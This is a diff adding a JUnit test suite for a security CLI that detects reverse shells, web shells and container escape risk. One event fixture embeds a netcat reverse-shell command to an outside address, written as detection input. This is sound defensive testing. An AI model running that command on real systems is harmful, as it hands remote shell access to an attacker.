@@ -1,0 +1,264 @@
+package io.hivesec.examples.cli;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import io.hivesec.artifact.Content;
+import io.hivesec.json.HiveModule;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Objects;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** The command as a user meets it, with good input and bad. */
+final class HiveCommandTest {
+    /** A shell in a container connects to an outside host, in Tetragon's form; written for this test. */
+    private static final String NC = """
+            {"process_exec":{"process":{"exec_id":"b","pid":11,"uid":0,"cwd":"/","binary":"/usr/bin/nc","arguments":"203.0.113.9 4444 -e /bin/sh","start_time":"2026-01-02T03:04:05Z","docker":"c0ffee","pod":{"namespace":"shop","name":"web-1","container":{"id":"containerd://c0ffee","name":"web","image":{"id":"sha256:00","name":"web:1"}}},"parent_exec_id":"a"},"parent":{"exec_id":"a","pid":10,"binary":"/bin/bash","arguments":"","start_time":"2026-01-02T03:04:04Z"}},"node_name":"n","time":"2026-01-02T03:04:05Z"}
+            """;
+
+    private static final String LS = """
+            {"type":"process_started","time":"2026-01-02T03:04:05Z","process":{"pid":5,"executable":"/bin/ls","arguments":["ls"]}}
+            """;
+
+    @TempDir
+    private Path folder;
+
+    @Test
+    void help_everySubcommand_isListed() {
+        Run run = Run.hive("--help");
+        assertThat(run.status()).isZero();
+        assertThat(run.out())
+                .contains(
+                        "demo",
+                        "scan",
+                        "watch",
+                        "inspect",
+                        "jvm",
+                        "profile",
+                        "respond",
+                        "whitelist",
+                        "rules",
+                        "console");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"jvm", "profile", "respond", "console"})
+    void laterSubcommand_saysSoAndCouldNotRun(String name) {
+        Run run = Run.hive(name, "list");
+        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
+        assertThat(run.err()).isEqualToIgnoringNewLines("hive: '" + name + "' is not built yet");
+    }
+
+    @Test
+    void watch_reverseShell_isOneAlertWithContainerProcessTargetAndTree() throws IOException {
+        Run run = Run.hive("watch", "--from", "tetragon", "--format", "jsonl", write("nc.jsonl", NC));
+        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
+        JsonNode alert =
+                HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
+        assertThat(alert.path("type").asText()).isEqualTo("reverse_shell");
+        assertThat(alert.path("container").path("pod").asText()).isEqualTo("web-1");
+        assertThat(alert.path("process").path("executable").asText()).isEqualTo("/usr/bin/nc");
+        assertThat(alert.path("target").path("ip").asText()).isEqualTo("203.0.113.9");
+        assertThat(alert.path("target").path("port").asInt()).isEqualTo(4444);
+        assertThat(alert.path("target").path("scope").asText()).isEqualTo("external");
+        assertThat(alert.path("ancestors").get(0).path("executable").asText()).isEqualTo("/bin/bash");
+        assertThat(run.err()).contains("\"read\":1,\"understood\":1,\"skipped\":0,\"malformed\":0,\"alerts\":1");
+    }
+
+    @Test
+    void watch_whitelist_silencesItAndSaysSo() throws IOException {
+        Path rules = write("trusted.json", """
+                {"version":1,"rules":[{"id":"nc","type":"reverse_shell","description":"our own drill","creator":"ann",
+                 "created":"2026-01-02T00:00:00Z","conditions":{"processes":"nc","targetHosts":"203.0.113.0/24"}}]}
+                """);
+        Path events = write("nc.jsonl", NC);
+        Run quiet = Run.hive("watch", "--whitelist", rules, "--format", "jsonl", events);
+        assertThat(quiet.status()).isZero();
+        assertThat(quiet.out()).isEmpty();
+        Run shown = Run.hive("watch", "--whitelist", rules, "--show-whitelisted", "--format", "jsonl", events);
+        JsonNode alert =
+                HiveModule.mapper().readTree(shown.out().lines().findFirst().orElseThrow());
+        assertThat(alert.path("whitelisted").path("rule").asText()).isEqualTo("nc");
+        assertThat(alert.path("whitelisted").path("reason").asText()).isEqualTo("our own drill");
+    }
+
+    @Test
+    void watch_jsonCutInHalf_saysWhereAndReadsTheRest() throws IOException {
+        String cut = NC.substring(0, NC.length() / 2);
+        Run run = Run.hive("watch", "--from", "tetragon", write("cut.jsonl", NC + cut + "\n" + NC));
+        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
+        assertThat(run.err()).contains("cut.jsonl:2: ").contains("\"read\":3,\"understood\":2");
+        assertOneLineEach(run);
+    }
+
+    @Test
+    void watch_lineOfManyMegabytes_isCountedAndTheRestIsRead() throws IOException {
+        Run run = Run.hive("watch", "--from", "hive", write("long.jsonl", LS + "x".repeat(64 << 20) + "\n" + LS));
+        assertThat(run.err())
+                .contains("long.jsonl:2: ")
+                .contains("\"understood\":2")
+                .contains("\"malformed\":1");
+        assertOneLineEach(run);
+    }
+
+    @Test
+    void watch_nothingUnderstood_couldNotRun() throws IOException {
+        Run run = Run.hive("watch", "--from", "tetragon", write("no.jsonl", "no events here\n"));
+        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
+        assertOneLineEach(run);
+    }
+
+    @Test
+    void watch_missingFileOrDirectory_isOneClearLine() {
+        Path missing = folder.resolve("missing.jsonl");
+        assertRefused(Run.hive("watch", missing), missing + ": no such file");
+        assertRefused(Run.hive("watch", folder), folder + ": is a directory, not a file");
+    }
+
+    @Test
+    void watch_unknownFormat_isRefusedWithTheChoices() {
+        Run run = Run.hive("watch", "--from", "carrier-pigeon");
+        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
+        assertThat(run.err()).contains("tetragon").contains("carrier-pigeon").hasLineCount(1);
+    }
+
+    @Test
+    void watch_badWhitelist_isRefusedWithFileRuleAndField() throws IOException {
+        Path rules = write("bad.json", """
+                {"version":1,"rules":[{"id":"nc","type":"reverse_shell","creator":"ann",
+                 "created":"2026-01-02T00:00:00Z","conditions":{"targetPorts":"70000"}}]}
+                """);
+        Run run = Run.hive("watch", "--whitelist", rules, write("nc.jsonl", NC));
+        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
+        assertThat(run.err()).contains("bad.json", "nc", "targetPorts", "70000");
+    }
+
+    @Test
+    void scan_specimens_areFoundAndTheHarmlessOneIsNot() throws IOException {
+        for (var sample : DemoSamples.all()) {
+            Content content = sample.content();
+            String name = sample.name().startsWith("org.")
+                    ? "LogFilter.class"
+                    : sample.name().replace('/', '-');
+            Files.write(folder.resolve(name), content.read(1 << 20));
+        }
+        Run run = Run.hive("scan", "--format", "jsonl", folder);
+        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
+        assertThat(verdict(run, "uploads-avatar.jsp")).isEqualTo("MALICIOUS");
+        assertThat(verdict(run, "pages-hello.jsp")).isEqualTo("BENIGN");
+        assertThat(verdict(run, "LogFilter.class")).isEqualTo("MALICIOUS");
+    }
+
+    @Test
+    void scan_randomClassAndDeepPage_areUnknownWithAFailure() throws IOException {
+        byte[] random = new byte[4096];
+        new Random(1).nextBytes(random);
+        byte[] magic = {(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe};
+        System.arraycopy(magic, 0, random, 0, magic.length);
+        Files.write(folder.resolve("random.class"), random);
+        write("deep.jsp", "<% int x = " + "(".repeat(10_000) + "1" + ")".repeat(10_000) + "; %>");
+        Run run = Run.hive("scan", "--format", "jsonl", folder);
+        assertThat(verdict(run, "random.class")).isEqualTo("UNKNOWN");
+        assertThat(verdict(run, "deep.jsp")).isEqualTo("UNKNOWN");
+        assertThat(run.err()).contains("random.class").contains("deep.jsp");
+        assertOneLineEach(run);
+    }
+
+    @Test
+    void scan_missingPathOrUnknownEngine_isOneClearLine() {
+        Path missing = folder.resolve("missing");
+        assertRefused(Run.hive("scan", missing), missing + ": no such file");
+        assertRefused(Run.hive("scan", "--engine", "luck", folder), "--engine: one of memshell, webshell, not 'luck'");
+    }
+
+    @Test
+    void inspect_badFileBesideAGoodOne_judgesTheGoodOne() throws IOException {
+        Path good = folder.resolve("good.json");
+        try (var in = DemoCommand.class.getResourceAsStream("demo/privileged.json")) {
+            Files.write(good, Objects.requireNonNull(in).readAllBytes());
+        }
+        Run run = Run.hive("inspect", "--format", "jsonl", write("bad.yaml", "a: [\n"), good);
+        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
+        assertThat(run.out()).contains("\"risk\":\"critical\"");
+        assertThat(run.err()).contains("bad.yaml");
+        assertOneLineEach(run);
+    }
+
+    @Test
+    void whitelistCheck_goodFile_saysHowManyRules() throws IOException {
+        Path rules = folder.resolve("rules.json");
+        try (var in = DemoCommand.class.getResourceAsStream("demo/whitelist.json")) {
+            Files.write(rules, Objects.requireNonNull(in).readAllBytes());
+        }
+        Run run = Run.hive("whitelist", "check", rules);
+        assertThat(run.status()).isZero();
+        assertThat(run.out()).contains("1 rule(s)");
+    }
+
+    @Test
+    void rules_everyRule_isALine() {
+        Run run = Run.hive("rules");
+        assertThat(run.status()).isZero();
+        assertThat(run.out())
+                .contains("malicious-command.shared-memory-program")
+                .contains("reverse-shell.");
+    }
+
+    @Test
+    void demo_shippedData_findsShellPageClassAndContainer() throws IOException {
+        Run run = Run.hive("demo", "--output", folder);
+        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
+        assertThat(run.out()).contains("reverse_shell", "avatar.jsp", "LogFilter", "escape_risk", "edge-proxy");
+        JsonNode report =
+                HiveModule.mapper().readTree(folder.resolve("report.json").toFile());
+        assertThat(report.path("alerts").findValuesAsText("type"))
+                .contains("reverse_shell", "web_backdoor", "memory_webshell", "escape_risk");
+        assertThat(report.path("whitelisted")
+                        .get(0)
+                        .path("whitelisted")
+                        .path("reason")
+                        .asText())
+                .contains("agreed with operations");
+        assertThat(report.path("failures")).isEmpty();
+    }
+
+    @Test
+    void watch_alertWithControlCharacters_printsNone() throws IOException {
+        String colours = NC.replace("203.0.113.9 4444 -e /bin/sh", "203.0.113.9 4444 -e /bin/sh \\u001b[31m\\u202e");
+        Run run = Run.hive("watch", "--from", "tetragon", write("nc.jsonl", colours));
+        assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
+        assertThat(run.out()).doesNotContain("\u001b", "\u202e");
+    }
+
+    private static String verdict(Run run, String name) throws IOException {
+        for (String line : run.out().lines().toList()) {
+            JsonNode json = HiveModule.mapper().readTree(line);
+            if (json.path("artifact").asText().endsWith(name)) {
+                return json.path("verdict").asText();
+            }
+        }
+        throw new AssertionError("no line for " + name + " in " + run);
+    }
+
+    private Path write(String name, String text) throws IOException {
+        return Files.write(folder.resolve(name), text.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static void assertRefused(Run run, String message) {
+        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
+        assertThat(run.err()).isEqualToIgnoringNewLines("hive: " + message);
+    }
+
+    /** No stack trace reaches the terminal. */
+    private static void assertOneLineEach(Run run) {
+        assertThat(run.err().lines())
+                .allSatisfy(line -> assertThat(line).doesNotStartWith("\tat ").doesNotContain("java.lang."));
+    }
+}
